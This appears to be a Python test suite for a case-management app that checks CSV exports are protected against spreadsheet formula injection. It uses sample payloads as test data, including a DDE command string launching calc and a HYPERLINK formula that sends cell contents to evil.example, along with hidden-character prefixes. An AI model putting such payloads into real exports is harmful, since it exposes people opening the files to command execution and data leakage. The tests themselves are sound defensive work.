"""No file that we hand out holds a cell which a spreadsheet would compute, whatever somebody wrote into a record.

The oracle here knows nothing of how `lib.spreadsheets` decides: it strips by Unicode’s own tables, written out below.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from django.urls import reverse
from hypothesis import example, given, settings
from hypothesis import strategies as st

from kinkeeper.access.models import Unit
from kinkeeper.cases.models import Case
from kinkeeper.exchange.models import Import, QuarantinedRow
from kinkeeper.exchange.ssda903.writing import write_year
from kinkeeper.lib.spreadsheets import plain_text, safe_text
from kinkeeper.people.models import Person
from tests import laws
from tests.conftest import Colleague, open_case, register
from tests.exchange.ssda903.test_write_year import NOOR

SIGNS = "=+-@"
# The same signs full width, small, raised and lowered, as an input method for Chinese or a copied text brings them.
WIDE = "＝＋－＠﹦﹢﹣﹫⁼⁺⁻₌₊₋"
CONTROLS = [chr(number) for number in (*range(0x20), *range(0x7F, 0xA0))]
HIDDEN = "\ufeff\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2060\u2066\u2067\u2068\u2069\u00ad\u061c"
SHAPELESS = "\u034f\u115f\u1160\u17b4\u180e\u2800\u3164\uffa0\ufe0f"
BLANKS = " \u00a0\u1680\u2003\u2009\u2028\u2029\u202f\u205f\u3000"
PREFIXES = ["", "'", '"', *CONTROLS, *HIDDEN, *SHAPELESS, *BLANKS]
PAYLOADS = ["cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1)', "SUM(1)", "1+1", "\u0338x"]


def would_compute(cell: str) -> bool:
    """Whether some spreadsheet may compute this cell: what is left of it, without all that has no ink, begins so."""
    if cell.startswith("'"):
        return False  # marked as text
    for sign in cell:
        if sign in CONTROLS or sign in HIDDEN or sign in SHAPELESS or sign in BLANKS or sign == '"':
            continue
        return (sign in SIGNS or sign in WIDE) and not is_a_figure(cell)
    return False


def is_a_figure(cell: str) -> bool:
    """-5 and +383 44 are numbers: a digit, and none of what a formula needs."""
    return cell[1:].replace(".", "", 1).replace(",", "", 1).isdecimal()


hostile = st.builds(
    lambda prefix, sign, rest: "".join(prefix) + sign + rest,
    st.lists(st.sampled_from(PREFIXES), max_size=4),
    st.sampled_from([*SIGNS, *WIDE]),
    st.one_of(st.sampled_from(PAYLOADS), st.text(max_size=8)),
)


@settings(max_examples=300, deadline=None)
@given(st.one_of(hostile, st.text()))
@example("=\u0338cmd|' /C calc'!A0")
@example("\ufeff＝1+1")
@example("\u3164@SUM(1)")
def test_no_text_made_safe_would_compute(text: str) -> None:
    assert not would_compute(safe_text(text)), ascii(text)
    assert plain_text(safe_text(text)) == text


@pytest.mark.parametrize("text", ["Mina", "-5", "+12,5", "O'Brien", "Анна-Мария", "2024-05-17", "", " Noor", "\u0338x"])
def test_what_is_no_formula_stays(text: str) -> None:
    assert safe_text(text) == text


def grid() -> Iterator[str]:
    """Every prefix before a formula that begins with a plain or a wide sign."""
    for number, prefix in enumerate(PREFIXES):
        yield f"{prefix}{(SIGNS + WIDE)[number % 18]}1+1"


def cells_of(content: bytes) -> list[str]:
    """The cells of a CSV file, all its rows in one."""
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]


def test_the_list_of_cases(amina: Colleague, village: Unit) -> None:
    names = [name for name in grid() if "\x00" not in name]  # PostgreSQL keeps no NUL, and no form lets one in
    for number, name in enumerate(names):
        child = register(village, f"Child {number}", "Saleh")
        Person.objects.filter(pk=child.pk).update(name=name)
        open_case(child, amina)
    answer = amina.browser.post(reverse("download_caseload"), {"purpose": "AUTHORITY", "recipient": ""})
    cells = cells_of(answer.content)
    assert {plain_text(cell) for cell in cells} >= {*names, *Case.objects.values_list("code", flat=True)}
    assert [ascii(cell) for cell in cells if would_compute(cell)] == []


def test_the_list_of_what_did_not_land(dalia: Colleague, village: Unit) -> None:
    brought = Import.objects.create(unit=village, folder="x", digest="x", by=dalia.user)
    for number, text in enumerate(text for text in grid() if "\x00" not in text):
        QuarantinedRow.objects.create(
            of=brought, file=text[:60], line=number, table="Header", field=text[:40], reason=text, values={}
        )
    answer = dalia.browser.get(reverse("quarantine_list", args=[brought.code]))
    cells = cells_of(answer.content)
    assert len(cells) > 4 * len(PREFIXES) - 8
    assert [ascii(cell) for cell in cells if would_compute(cell)] == []


def test_the_return_of_a_year(tmp_path: Path) -> None:
    head = NOOR.headers[0]
    records = [replace(NOOR, child=text, headers=(replace(head, ethnic=text, upn=text),)) for text in sorted(grid())]
    write_year(tmp_path, 2022, records)
    cells = [cell for file in tmp_path.glob("*.csv") for cell in cells_of(file.read_bytes())]
    assert {plain_text(cell) for cell in cells} >= set(grid())
    assert [ascii(cell) for cell in cells if would_compute(cell)] == []


def test_whoever_writes_a_table_makes_its_cells_safe() -> None:
    """A new export is found here: it writes CSV through `safe_text`, or a workbook in which nothing is a formula."""
    writing = {
        each.path: each.text for each in laws.modules() if "csv.writer" in each.text or "xlsxwriter" in each.text
    }
    assert len(writing) == 4
    made_before = {"desk/views.py": "caseload_table makes its cells safe"}
    careless = [
        name
        for name, text in writing.items()
        if "safe_text(" not in text and '"strings_to_formulas": False' not in text and name not in made_before
    ]
    assert careless == []
